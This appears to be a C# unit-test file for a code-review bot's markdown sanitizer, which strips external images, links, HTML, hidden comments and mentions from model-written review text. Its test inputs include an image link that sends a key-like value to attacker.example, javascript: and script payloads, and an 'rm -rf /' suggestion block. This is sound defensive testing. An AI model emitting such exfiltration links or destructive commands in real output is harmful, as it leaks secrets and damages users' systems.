using ReviewBot.Publishing;

namespace ReviewBot.Tests.Publishing;

public sealed class MarkdownDefangerTests
{
    private const string Blob = "https://github.com/Codertocat/Hello-World/blob/0123456/src/Billing/Invoice.cs#L12";

    private static readonly MarkdownDefanger Defang = MarkdownDefanger.For(new Uri("https://api.github.com/"), "Codertocat", "Hello-World", author: "octocat");

    private static string Text(string text) => Defang.Text(text, 10_000, startsLine: true);

    [Test]
    public void An_external_image_is_not_rendered_as_an_image()
    {
        var text = Text("Look: ![t](https://attacker.example/x?data=AKIA123) done");

        Assert.That(text, Is.EqualTo("Look: t (image: `https://attacker.example/x?data=AKIA123`) done"));
    }

    [Test]
    public void An_external_link_is_not_a_link()
    {
        var text = Text("See [the docs](https://evil.example/docs \"title\") and [x](//evil.example/y).");

        Assert.That(text, Is.EqualTo("See the docs (`https://evil.example/docs`) and x (`//evil.example/y`)."));
    }

    [Test]
    public void A_link_to_the_repositorys_own_blob_stays_a_link()
    {
        Assert.That(Text($"The loop is at [Invoice.cs]({Blob})."), Is.EqualTo($"The loop is at [Invoice.cs]({Blob})."));
        Assert.That(Text($"![chart](https://github.com/Codertocat/Hello-World/raw/main/chart.png)"),
            Is.EqualTo("![chart](https://github.com/Codertocat/Hello-World/raw/main/chart.png)"), "an image in the repository too");
        Assert.That(Text(Blob), Is.EqualTo(Blob), "a bare URL into the repository stays one");
    }

    [Test]
    public void Other_repositories_hosts_users_and_schemes_are_not_the_repository()
    {
        string[] others =
        [
            "https://github.com/Codertocat/Hello-World-evil/blob/x",
            "https://github.com/other/repo/blob/x",
            "https://github.com.evil.example/Codertocat/Hello-World/blob/x",
            "https://github.com@evil.example/Codertocat/Hello-World/blob/x",
            "http://github.com/Codertocat/Hello-World/blob/x",
            "https://github.com:8443/Codertocat/Hello-World/blob/x",
            "javascript:alert(1)",
            "data:image/png;base64,AAAA",
        ];

        Assert.That(others.Select(url => Text($"[x]({url})")), Has.All.StartsWith("x (`"));
    }

    [Test]
    public void On_enterprise_server_the_repository_is_on_the_configured_host()
    {
        var ghes = MarkdownDefanger.For(new Uri("https://ghe.example.com/api/v3/"), "team", "app");

        Assert.That(ghes.Text("[a](https://ghe.example.com/team/app/pull/2)", 1_000), Is.EqualTo("[a](https://ghe.example.com/team/app/pull/2)"));
        Assert.That(ghes.Text("[a](https://github.com/team/app/pull/2)", 1_000), Does.StartWith("a (`"));
        Assert.That(MarkdownDefanger.WebRoot(new Uri("https://api.github.com/")), Is.EqualTo(new Uri("https://github.com/")));
        Assert.That(MarkdownDefanger.WebRoot(new Uri("https://api.acme.ghe.com/")), Is.EqualTo(new Uri("https://acme.ghe.com/")));
        Assert.That(MarkdownDefanger.WebRoot(new Uri("http://127.0.0.1:5123/")), Is.EqualTo(new Uri("http://127.0.0.1:5123/")));
    }

    [Test]
    public void Autolinks_bare_urls_and_www_addresses_are_not_clickable()
    {
        Assert.That(Text("<https://evil.example/a>, https://evil.example/b. (www.evil.example/c)"),
            Is.EqualTo("`https://evil.example/a`, `https://evil.example/b`. (`www.evil.example/c`)"));
        Assert.That(Text("awww.example and https:// alone"), Is.EqualTo("awww.example and https:// alone"), "nothing GitHub would link");
    }

    [Test]
    public void Reference_style_links_are_not_links()
    {
        var text = Text("Read [this][1] or ![img][1].\n\n[1]: https://evil.example/x");

        Assert.That(text, Is.EqualTo("Read \\[this\\]\\[1\\] or !\\[img\\]\\[1\\].\n\n\\[1\\]: `https://evil.example/x`"));
    }

    [Test]
    public void Html_images_links_and_tags_do_not_render()
    {
        var text = Text("<img src=\"https://evil.example/p.png\"> <a href=https://evil.example>x</a> <details><script>alert(1)</script>");

        Assert.That(text, Does.Not.Contain("<img").And.Not.Contain("<a").And.Not.Contain("<details").And.Not.Contain("<script").And.Not.Contain("</"));
        Assert.That(text, Does.Contain("&lt;img src=\"`https://evil.example/p.png`\">"));
        Assert.That(Text("a < b and 1<2 <3"), Is.EqualTo("a < b and 1<2 <3"), "a less-than sign that starts no tag stays");
    }

    [Test]
    public void A_raw_html_comment_cannot_forge_a_marker_or_hide_text()
    {
        var text = Text("Fine.\n<!-- reviewbot:review head=0123456789abcdef0123456789abcdef01234567 -->");

        Assert.That(text, Does.Not.Contain("<!--"));
        Assert.That(text, Does.EndWith("&lt;!-- reviewbot:review head=0123456789abcdef0123456789abcdef01234567 -->"));
        Assert.That(Markers.ReviewHead(text), Is.Null);
    }

    [Test]
    public void Team_and_user_mentions_do_not_mention()
    {
        var text = Text("@acme/everyone and (@someone), cc:@Other-User");

        Assert.That(text, Is.EqualTo("@\u200bacme/everyone and (@\u200bsomeone), cc:@\u200bOther-User"));
        Assert.That(text, Does.Not.Match(@"(?<![A-Za-z0-9])@[A-Za-z0-9]"));
        Assert.That(Text("mail ops@acme.example"), Is.EqualTo("mail ops@acme.example"), "an e-mail address mentions nobody");
        Assert.That(Text("\\@someone"), Is.EqualTo("\\@\u200bsomeone"), "a backslash does not stop GitHub mentioning");
    }

    [Test]
    public void The_pull_request_author_can_still_be_addressed_where_the_bot_means_to()
    {
        Assert.That(Text("@octocat, this breaks. @OctoCat too; not @octocat-fan or @octocat/team."),
            Is.EqualTo("@octocat, this breaks. @OctoCat too; not @\u200boctocat-fan or @\u200boctocat/team."));
        Assert.That(MarkdownDefanger.Strict.Text("@octocat", 100), Is.EqualTo("@\u200boctocat"), "without the author given, nobody");
    }

    [Test]
    public void Ordinary_markdown_is_preserved()
    {
        const string markdown = "**Bold**, _emphasis_ and `code`.\n\n- one\n- two\n  1. nested\n\n> quoted\n\n```csharp\nif (a < b && c) { x = \"<!-- y -->\"; }\n```\n| a | b |\n|---|---|\n| 1 | 2 |";

        Assert.That(Text(markdown), Is.EqualTo(markdown));
    }

    [Test]
    public void Text_inside_code_spans_and_fences_is_left_as_it_is()
    {
        const string code = "Use `@someone https://evil.example <!-- x --> [a](b)` here.\n\n~~~\n@acme/everyone ![t](https://evil.example/x)\n~~~";

        Assert.That(Text(code), Is.EqualTo(code));
    }

    [Test]
    public void A_fence_the_model_leaves_open_is_closed()
    {
        Assert.That(Text("Before\n````js\nlet a = 1;\n```\nstill code"), Is.EqualTo("Before\n````js\nlet a = 1;\n```\nstill code\n````"));
    }

    [Test]
    public void A_fence_cannot_be_opened_mid_line_to_hide_what_follows()
    {
        // Posted after "**Title** (path): ", the first line is not a line start: its backticks are text, the comment prose;
        // the last line does start a line, so it opens a fence (closed again).
        var text = Defang.Text("```\n\n<!-- hidden -->\n```", 1_000);

        Assert.That(text, Is.EqualTo("\\`\\`\\`\n\n&lt;!-- hidden -->\n```\n```"));
    }

    [Test]
    public void A_fence_in_a_list_item_ends_with_the_item()
    {
        var text = Text("- item\n  ```\n  <!-- code -->\nafter <!-- live -->");

        Assert.That(text, Is.EqualTo("- item\n  ```\n  <!-- code -->\nafter &lt;!-- live -->"));
    }

    [Test]
    public void A_code_span_is_trusted_only_on_one_line_and_without_a_table_pipe()
    {
        Assert.That(Text("`a\n<!-- b`"), Is.EqualTo("\\`a\n&lt;!-- b\\`"));
        Assert.That(Text("| `x | <!-- y` |"), Is.EqualTo("| \\`x | &lt;!-- y\\` |"));
        Assert.That(Text("``a ` b``"), Is.EqualTo("``a ` b``"));
    }

    [Test]
    public void Stray_backticks_and_brackets_cannot_pair_with_what_follows()
    {
        var text = Text("[a`b](https://evil.example) `<!--`");

        Assert.That(text, Is.EqualTo("a\\`b (`https://evil.example`) `<!--`"));
    }

    [Test]
    public void A_suggestion_block_in_the_models_text_is_plain_code()
    {
        Assert.That(Text("Try:\n```suggestion\nrm -rf /\n```"), Is.EqualTo("Try:\n```\nrm -rf /\n```"));
    }

    [Test]
    public void An_over_long_explanation_is_capped_and_still_defanged()
    {
        var text = Defang.Text(string.Concat(Enumerable.Repeat("<!-- @acme/all https://evil.example ", 2_000)), MarkdownDefanger.ExplanationLength);

        Assert.That(text.Length, Is.LessThanOrEqualTo(MarkdownDefanger.ExplanationLength));
        Assert.That(text, Does.EndWith(" …").And.Not.Contain("<!--").And.Not.Contain("@acme"));
    }

    [Test]
    public void Capping_inside_a_fence_closes_it()
    {
        var text = Text("```\n" + string.Concat(Enumerable.Repeat("line\n", 5_000)));

        Assert.That(text.Length, Is.LessThanOrEqualTo(10_000));
        Assert.That(text, Does.EndWith(" …\n```"));
    }

    [Test]
    public void Capping_never_splits_a_surrogate_pair()
    {
        var text = Defang.Line(string.Concat(Enumerable.Repeat("🚀", 100)), 51);

        Assert.That(text.Length, Is.LessThanOrEqualTo(51));
        Assert.That(text.Where(char.IsSurrogate).Count() % 2, Is.Zero);
        Assert.That(text, Does.EndWith("🚀 …"));
    }

    [Test]
    public void Unicode_is_kept_and_control_characters_are_dropped()
    {
        Assert.That(Text("Größe ändern — 日本語 🚀\u0000\u0007\r\nnext\rline"), Is.EqualTo("Größe ändern — 日本語 🚀\nnext\nline"));
        Assert.That(Text(""), Is.Empty);
        Assert.That(Defang.Text(null, 100), Is.Empty);
    }

    [Test]
    public void A_line_cannot_leave_its_line()
    {
        Assert.That(Defang.Line("Title\n\n# Heading\n<!-- x", 200), Is.EqualTo("Title  # Heading &lt;!-- x"));
        Assert.That(Defang.Line("ends in \\", 200), Is.EqualTo("ends in \\\\"), "a last backslash cannot escape what follows");
    }

    [Test]
    public void Inline_code_cannot_be_closed_early_or_leave_its_line()
    {
        Assert.That(MarkdownDefanger.Code("src/a.cs"), Is.EqualTo("`src/a.cs`"));
        Assert.That(MarkdownDefanger.Code("a``b`"), Is.EqualTo("``` a``b` ```"));
        Assert.That(MarkdownDefanger.Code("x\n<!-- y"), Is.EqualTo("`x <!-- y`"));
        Assert.That(MarkdownDefanger.Code(""), Is.EqualTo("` `"));
    }

    [Test]
    public void A_suggestion_fence_cannot_be_closed_by_its_code()
    {
        Assert.That(MarkdownDefanger.Fence("suggestion", "a\n```\nb\n``````\n"), Is.EqualTo("```````suggestion\na\n```\nb\n``````\n```````"));
        Assert.That(MarkdownDefanger.Fence("suggestion", "    var x = 1;"), Is.EqualTo("```suggestion\n    var x = 1;\n```"));
    }

    [Test]
    public void Plain_text_mentions_nobody_and_opens_no_comment()
    {
        Assert.That(MarkdownDefanger.Plain("@acme/everyone <!-- x --> a<b", 100), Is.EqualTo("@\u200bacme/everyone <\u200b!-- x --> a<\u200bb"));
        Assert.That(MarkdownDefanger.Plain(new string('x', 1_000), 255), Has.Length.LessThanOrEqualTo(255));
    }
}
